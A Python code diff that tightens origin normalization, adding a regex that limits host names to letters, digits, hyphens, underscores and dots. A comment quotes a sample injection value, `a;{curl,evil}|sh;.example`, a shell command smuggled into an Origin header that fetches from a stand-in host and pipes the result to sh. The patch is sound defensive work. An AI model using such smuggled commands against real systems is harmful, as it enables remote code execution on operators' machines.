@@ -85,6 +85,11 @@ WILD = "://*."   # https://*.example.com: any subdomain of example.com, at any d
 DEFAULT_PORTS = {"http": 80, "https": 443}
 _ORIGIN = re.compile(r"^(https?)://([^/?#\s@]+?)/?\Z", re.I)
 _HOST_PORT = re.compile(r"^(\[[0-9A-Fa-f:.]+\]|[^:\[\]]+)(?::(\d{1,5}))?\Z")
+# a host as a browser sends it, once in ASCII: dot-separated labels of letters, digits,
+# hyphens (and underscores, which some intranets' names hold) - nothing a shell, a log or
+# a page reads as more (an Origin header is anyone's to write: `a;{curl,evil}|sh;.example`
+# went into the operator's log inside a command to paste)
+_ASCII_HOST = re.compile(r"^(?:\*\.)?[a-z0-9_-]{1,63}(?:\.[a-z0-9_-]{1,63})*\.?\Z")
 
 
 def normalize_origin(url: str) -> str:
@@ -112,6 +117,9 @@ def normalize_origin(url: str) -> str:
         raise AppError(f"origin {url!r}: port {port} is not a port (1-65535)")
     if not host.startswith("["):
         host = ("*." if wild else "") + _ascii_host(url, host)
+        if not _ASCII_HOST.match(host):
+            raise AppError(f"origin {url!r}: its host is not a host name (letters, digits,"
+                           " hyphens and dots)")
     if port is None or int(port) == DEFAULT_PORTS[scheme]:
         return f"{scheme}://{host}"
     return f"{scheme}://{host}:{int(port)}"
